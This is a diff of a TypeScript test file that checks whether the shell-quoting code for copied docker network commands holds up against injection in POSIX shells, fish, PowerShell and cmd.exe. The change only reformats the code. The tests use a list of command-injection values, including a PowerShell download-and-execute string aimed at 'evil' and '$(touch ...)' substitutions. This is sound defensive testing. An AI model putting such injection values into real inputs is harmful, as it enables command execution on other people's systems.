@@ -8,20 +8,76 @@ import { join } from 'node:path';
 import { describe, test } from 'node:test';
 import { toConnectCliCommand } from '../../src/model/connectRequest';
 import { createNetworkArgv, emptyAnswers, toDockerCliCommand } from '../../src/model/createNetwork';
-import { cliLine, commandLine, quoteArgument, SHELL_KINDS, shellKindOf, ShellKind, UnquotableValueError } from '../../src/model/shellQuoting';
+import {
+  cliLine,
+  commandLine,
+  quoteArgument,
+  SHELL_KINDS,
+  shellKindOf,
+  ShellKind,
+  UnquotableValueError,
+} from '../../src/model/shellQuoting';
 
 const { findProgram } = require('../../../scripts/lib/apt.js') as { findProgram(name: string): string | undefined };
 
 const HOSTILE = [
-  "x'; iwr evil|iex; #", 'a & calc', 'a | b', '$(touch /tmp/dn-pwned)', '`touch /tmp/dn-pwned`', 'line\nbreak', '%PATH%', '!x!', 'a"b', "it's",
-  '*', '~', '-rf', '', ' leading and trailing ', 'tab\there', 'ünïcødé ☃ 网络', 'back\\slash\\', '\\', '{a,b}', '#comment', 'a;b', '$HOME', "‘curly’", 'x > /tmp/dn-pwned',
-  '=ls', '=', 'a=~/x', '--label=~root', '?', '[ab]', '^x', 'x#y', '%self', '(a)', '$((1+1))', '$' + '{HOME}', '\\$HOME', "'", '"', '\\\'', '\n', 'a\\\nb', '@(a)', 'a,b', '-a.b', '--x=y z',
+  "x'; iwr evil|iex; #",
+  'a & calc',
+  'a | b',
+  '$(touch /tmp/dn-pwned)',
+  '`touch /tmp/dn-pwned`',
+  'line\nbreak',
+  '%PATH%',
+  '!x!',
+  'a"b',
+  "it's",
+  '*',
+  '~',
+  '-rf',
+  '',
+  ' leading and trailing ',
+  'tab\there',
+  'ünïcødé ☃ 网络',
+  'back\\slash\\',
+  '\\',
+  '{a,b}',
+  '#comment',
+  'a;b',
+  '$HOME',
+  '‘curly’',
+  'x > /tmp/dn-pwned',
+  '=ls',
+  '=',
+  'a=~/x',
+  '--label=~root',
+  '?',
+  '[ab]',
+  '^x',
+  'x#y',
+  '%self',
+  '(a)',
+  '$((1+1))',
+  '$' + '{HOME}',
+  '\\$HOME',
+  "'",
+  '"',
+  "\\'",
+  '\n',
+  'a\\\nb',
+  '@(a)',
+  'a,b',
+  '-a.b',
+  '--x=y z',
 ];
 
 /** The shells Debian offers that read a command with `-c`, with how argv comes back (NUL-separated). */
 const SHELLS: { name: string; program: string; kind: ShellKind }[] = [
-  { name: 'bash', program: 'bash', kind: 'posix' }, { name: 'dash', program: 'dash', kind: 'posix' }, { name: 'zsh', program: 'zsh', kind: 'posix' },
-  { name: 'mksh', program: 'mksh', kind: 'posix' }, { name: 'busybox sh', program: 'busybox', kind: 'posix' }, { name: 'fish', program: 'fish', kind: 'fish' },
+  { name: 'bash', program: 'bash', kind: 'posix' },
+  { name: 'dash', program: 'dash', kind: 'posix' },
+  { name: 'zsh', program: 'zsh', kind: 'posix' },
+  { name: 'mksh', program: 'mksh', kind: 'posix' },
+  { name: 'busybox sh', program: 'busybox', kind: 'posix' },
+  { name: 'fish', program: 'fish', kind: 'fish' },
 ];
 
 /** What a program receives when the shell runs `line`: node prints its argv NUL-separated. */
@@ -39,7 +95,8 @@ describe('copied command lines run exactly what they show, in every shell', () =
     test(`${shell.name}: hostile values come back as the exact argv`, t => {
       const program = findProgram(shell.program);
       if (!program) {
-        if (process.env.CI === 'true') assert.fail(`${shell.program} is missing: the test scripts install it from Debian (scripts/lib/apt.js)`);
+        if (process.env.CI === 'true')
+          assert.fail(`${shell.program} is missing: the test scripts install it from Debian (scripts/lib/apt.js)`);
         t.skip(`${shell.program} is not installed`);
         return;
       }
@@ -52,7 +109,8 @@ describe('copied command lines run exactly what they show, in every shell', () =
     test(`${shell.name}: the copied docker network create and connect lines reach docker as the exact argv`, t => {
       const program = findProgram(shell.program);
       if (!program) {
-        if (process.env.CI === 'true') assert.fail(`${shell.program} is missing: the test scripts install it from Debian (scripts/lib/apt.js)`);
+        if (process.env.CI === 'true')
+          assert.fail(`${shell.program} is missing: the test scripts install it from Debian (scripts/lib/apt.js)`);
         t.skip(`${shell.program} is not installed`);
         return;
       }
@@ -60,13 +118,30 @@ describe('copied command lines run exactly what they show, in every shell', () =
       const printer = commandLine(PRINT_ARGV, shell.kind);
       const define = shell.kind === 'fish' ? `function docker; ${printer} $argv; end\n` : `docker() { ${printer} "$@"; }\n`;
       const pairs = Object.fromEntries(HOSTILE.map((value, index) => [`k${index}${value}`, value]));
-      const answers = { ...emptyAnswers(), name: "x'; iwr evil|iex; #", driver: '$(touch /tmp/dn-pwned)', labels: pairs, driverOptions: pairs, ipamOptions: pairs };
+      const answers = {
+        ...emptyAnswers(),
+        name: "x'; iwr evil|iex; #",
+        driver: '$(touch /tmp/dn-pwned)',
+        labels: pairs,
+        driverOptions: pairs,
+        ipamOptions: pairs,
+      };
       const create = toDockerCliCommand(answers, shell.kind);
       assert.deepEqual(argvThroughShell(program, define + create.line!), createNetworkArgv(answers).slice(1));
       const options = { aliases: HOSTILE, links: HOSTILE, linkLocalIps: HOSTILE, driverOptions: pairs, ipv4: '`id`', ipv6: '$HOME' };
       const connect = toConnectCliCommand('a & b', '-c; id', options, shell.kind);
-      const expected = ['network', 'connect', ...HOSTILE.map(a => `--alias=${a}`), '--ip=`id`', '--ip6=$HOME', ...HOSTILE.map(l => `--link=${l}`),
-        ...HOSTILE.map(ip => `--link-local-ip=${ip}`), ...Object.entries(pairs).map(([k, v]) => `--driver-opt=${k}=${v}`), 'a & b', '-c; id'];
+      const expected = [
+        'network',
+        'connect',
+        ...HOSTILE.map(a => `--alias=${a}`),
+        '--ip=`id`',
+        '--ip6=$HOME',
+        ...HOSTILE.map(l => `--link=${l}`),
+        ...HOSTILE.map(ip => `--link-local-ip=${ip}`),
+        ...Object.entries(pairs).map(([k, v]) => `--driver-opt=${k}=${v}`),
+        'a & b',
+        '-c; id',
+      ];
       assert.deepEqual(argvThroughShell(program, define + connect.line!), expected);
     });
   }
@@ -76,7 +151,9 @@ describe('copied command lines run exactly what they show, in every shell', () =
     assert.deepEqual(createNetworkArgv(answers), ['docker', 'network', 'create', "--label=owner=x'; iwr evil|iex; #", 'web']);
     assert.deepEqual(toDockerCliCommand(answers), { line: `docker network create '--label=owner=x'\\''; iwr evil|iex; #' web` });
     assert.deepEqual(toDockerCliCommand(answers, 'powershell'), { line: `docker network create '--label=owner=x''; iwr evil|iex; #' web` });
-    assert.deepEqual(toConnectCliCommand('web', 'api', { aliases: ['a & b'], links: [], linkLocalIps: [], driverOptions: {} }, 'cmd'), { line: 'docker network connect "--alias=a & b" web api' });
+    assert.deepEqual(toConnectCliCommand('web', 'api', { aliases: ['a & b'], links: [], linkLocalIps: [], driverOptions: {} }, 'cmd'), {
+      line: 'docker network connect "--alias=a & b" web api',
+    });
   });
 
   test('a value the shell cannot carry is a refusal naming the value, not a line', () => {
@@ -110,7 +187,11 @@ describe('PowerShell and cmd.exe quoting (not installable from Debian)', () => {
     assert.equal(quoteArgument('a & calc | x > y ^ z', 'cmd'), '"a & calc | x > y ^ z"');
     assert.equal(quoteArgument('C:\\dir\\', 'cmd'), '"C:\\dir\\\\"');
     for (const value of ['%PATH%', '!x!', 'a"b', 'line\nbreak']) {
-      assert.throws(() => quoteArgument(value, 'cmd'), (err: Error) => err instanceof UnquotableValueError && err.message.includes('cmd.exe') && err.message.includes(JSON.stringify(value)));
+      assert.throws(
+        () => quoteArgument(value, 'cmd'),
+        (err: Error) =>
+          err instanceof UnquotableValueError && err.message.includes('cmd.exe') && err.message.includes(JSON.stringify(value)),
+      );
     }
   });
 
@@ -129,17 +210,24 @@ describe('PowerShell and cmd.exe quoting (not installable from Debian)', () => {
     const table: [string[], string][] = [
       [['docker', 'network', 'create', '--subnet=10.0.0.0/24', 'web'], "docker network create '--subnet=10.0.0.0/24' web"],
       [['docker', '--label=a,b', '@x', 'a,b', '-Dmaven.test=1', '--%'], "docker '--label=a,b' '@x' 'a,b' '-Dmaven.test=1' '--%'"],
-      [['docker', '$env:PATH', '$(calc)', '`n', "it's", 'a;b|c&d', '#x', '~', '*'], "docker '$env:PATH' '$(calc)' '`n' 'it''s' 'a;b|c&d' '#x' '~' '*'"],
+      [
+        ['docker', '$env:PATH', '$(calc)', '`n', "it's", 'a;b|c&d', '#x', '~', '*'],
+        "docker '$env:PATH' '$(calc)' '`n' 'it''s' 'a;b|c&d' '#x' '~' '*'",
+      ],
       [['C:\\Program Files\\Docker\\docker.exe', 'ps'], "& 'C:\\Program Files\\Docker\\docker.exe' ps"],
     ];
     for (const [argv, line] of table) assert.equal(commandLine(argv, 'powershell'), line);
-    for (const value of ['', 'a"b', 'a“b”', 'trailing\\']) assert.throws(() => quoteArgument(value, 'powershell'), UnquotableValueError, JSON.stringify(value));
+    for (const value of ['', 'a"b', 'a“b”', 'trailing\\'])
+      assert.throws(() => quoteArgument(value, 'powershell'), UnquotableValueError, JSON.stringify(value));
   });
 
   test('cmd.exe: table of expected lines', () => {
     const table: [string[], string][] = [
       [['docker', 'network', 'create', '--label=a=b', 'web'], 'docker network create --label=a=b web'],
-      [['docker', 'a & calc', 'x|y', '<in', '>out', '^', '(a)', '', 'a b\\'], 'docker "a & calc" "x|y" "<in" ">out" "^" "(a)" "" "a b\\\\"'],
+      [
+        ['docker', 'a & calc', 'x|y', '<in', '>out', '^', '(a)', '', 'a b\\'],
+        'docker "a & calc" "x|y" "<in" ">out" "^" "(a)" "" "a b\\\\"',
+      ],
     ];
     for (const [argv, line] of table) assert.equal(commandLine(argv, 'cmd'), line);
   });
@@ -150,16 +238,29 @@ describe('PowerShell and cmd.exe quoting (not installable from Debian)', () => {
     const psMeta = /[\s$`'"‘’‚‛“”„;&|<>(){}@,#*?[\]~%!^]/;
     const cmdMeta = /[\s&|<>^()%!";]/;
     for (const value of HOSTILE) {
-      const ps = (() => { try { return quoteArgument(value, 'powershell'); } catch { return undefined; } })();
+      const ps = (() => {
+        try {
+          return quoteArgument(value, 'powershell');
+        } catch {
+          return undefined;
+        }
+      })();
       if (ps !== undefined && psMeta.test(value)) {
         assert.ok(ps.startsWith("'") && ps.endsWith("'"), `PowerShell left ${JSON.stringify(value)} unquoted: ${ps}`);
         // Inside, every single quote (any of PowerShell's four) comes doubled, so none ends the string.
         assert.ok(!/['‘’‚‛]/.test(ps.slice(1, -1).replace(/(['‘’‚‛])\1/g, '')), `PowerShell quote escapes ${ps}`);
       }
-      const cmd = (() => { try { return quoteArgument(value, 'cmd'); } catch { return undefined; } })();
+      const cmd = (() => {
+        try {
+          return quoteArgument(value, 'cmd');
+        } catch {
+          return undefined;
+        }
+      })();
       if (cmd !== undefined) {
         assert.ok(!/[%!"\r\n]/.test(cmd.slice(1, -1)), `cmd.exe would expand or end the quote in ${cmd}`);
-        if (cmdMeta.test(value)) assert.ok(cmd.startsWith('"') && cmd.endsWith('"'), `cmd.exe left ${JSON.stringify(value)} unquoted: ${cmd}`);
+        if (cmdMeta.test(value))
+          assert.ok(cmd.startsWith('"') && cmd.endsWith('"'), `cmd.exe left ${JSON.stringify(value)} unquoted: ${cmd}`);
       }
     }
   });
@@ -172,9 +273,40 @@ describe('PowerShell and cmd.exe quoting (not installable from Debian)', () => {
     assert.ok(setting.markdownDescription || setting.description);
   });
 
-  test('the shell is read from VS Code\'s env.shell', () => {
-    assert.deepEqual(['/bin/bash', '/usr/bin/fish', 'C:\\Program Files\\PowerShell\\7\\pwsh.exe', 'powershell.exe', 'C:\\Windows\\System32\\cmd.exe', '/bin/zsh', undefined,
-      '/usr/bin/pwsh', 'C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\PowerShell.EXE', 'CMD.EXE', '/bin/dash', '', '/opt/homebrew/bin/fish', '/usr/bin/nushell'].map(shellKindOf),
-      ['posix', 'fish', 'powershell', 'powershell', 'cmd', 'posix', 'posix', 'powershell', 'powershell', 'cmd', 'posix', 'posix', 'fish', 'posix']);
+  test("the shell is read from VS Code's env.shell", () => {
+    assert.deepEqual(
+      [
+        '/bin/bash',
+        '/usr/bin/fish',
+        'C:\\Program Files\\PowerShell\\7\\pwsh.exe',
+        'powershell.exe',
+        'C:\\Windows\\System32\\cmd.exe',
+        '/bin/zsh',
+        undefined,
+        '/usr/bin/pwsh',
+        'C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\PowerShell.EXE',
+        'CMD.EXE',
+        '/bin/dash',
+        '',
+        '/opt/homebrew/bin/fish',
+        '/usr/bin/nushell',
+      ].map(shellKindOf),
+      [
+        'posix',
+        'fish',
+        'powershell',
+        'powershell',
+        'cmd',
+        'posix',
+        'posix',
+        'powershell',
+        'powershell',
+        'cmd',
+        'posix',
+        'posix',
+        'fish',
+        'posix',
+      ],
+    );
   });
 });
